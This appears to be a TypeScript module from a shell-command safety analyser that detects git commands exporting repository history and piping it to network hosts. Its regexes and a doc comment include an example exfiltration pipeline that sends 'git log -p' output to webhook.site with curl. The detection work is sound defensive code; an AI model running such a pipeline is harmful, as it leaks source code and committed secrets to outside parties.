import type { Command } from '../../shell/command.js';
import type { Effect } from '../../types.js';
import type { Frame } from '../analysis.js';
import { textOf } from '../../shell/command.js';
import { unwrapped } from '../../shell/output/unwrapped.js';
import { keepsForAnybody } from '../known/anybodys-hosts.js';
import { emit } from '../record.js';
import { resource } from '../target.js';
import { leavesNetwork } from '../output/sent/leaves-network.js';
import { isUnchecked } from './unchecked-program.js';

/** What prints all that is committed, or puts it into a file. */
const HISTORY =
  /\bgit (?:-\S{1,40} \S{1,200} ){0,2}(?:log\b(?: [^\s;&|]{1,100}){0,8}? (?:-p|-u|--patch)(?=\s|$)|bundle create\b|archive\b|format-patch\b|fast-export\b|pack-objects\b[^;&|\n]{0,200} --all\b|cat-file\b[^;&|\n]{0,200} --batch-all-objects\b)/;

/** Of these, what gives out all commits, or all that git keeps. What is committed last is often built elsewhere, and its whole past is not. */
const WHOLE_HISTORY =
  /\bgit (?:-\S{1,40} \S{1,200} ){0,2}(?:bundle create\b|fast-export\b|pack-objects\b[^;&|\n]{0,200} --all\b|cat-file\b[^;&|\n]{0,200} --batch-all-objects\b)/;

/** Commands of one pipe, and words of one. */
const MAX_STEPS = 8;
const MAX_WORDS = 16;

/** True for a text in which a command stands that gives out what is committed. */
export function givesHistory(text: string): boolean {
  return HISTORY.test(text);
}

/** `git log -p | gzip | curl -T - https://webhook.site/a`: what is committed goes to an address of which nobody can tell whose it is; all of its past, to any that is none of one's own. `own` is what the command itself does. */
export function historySent(command: Command, { program, span }: Effect, own: readonly Effect[], frame: Frame): void {
  const isToStranger = command.words.some((word) => keepsForAnybody(textOf(word)) || isUnchecked(textOf(word)));
  const given = isToStranger ? HISTORY : leavesNetwork(program, own) ? WHOLE_HISTORY : undefined;
  if (given !== undefined && isFed(command, given, MAX_STEPS)) {
    emit(frame, { kind: 'send', target: resource('repository', 'history'), program, span });
  }
}

function isFed({ input, words }: Command, given: RegExp, steps: number): boolean {
  if (steps === 0) return false;
  const sources = [...(input.kind === 'pipe' ? input.from : []), ...words.flatMap(({ from = [] }) => from)];
  return sources.some(
    (each) => given.test(unwrapped(each).words.slice(0, MAX_WORDS).map(textOf).join(' ')) || isFed(each, given, steps - 1),
  );
}
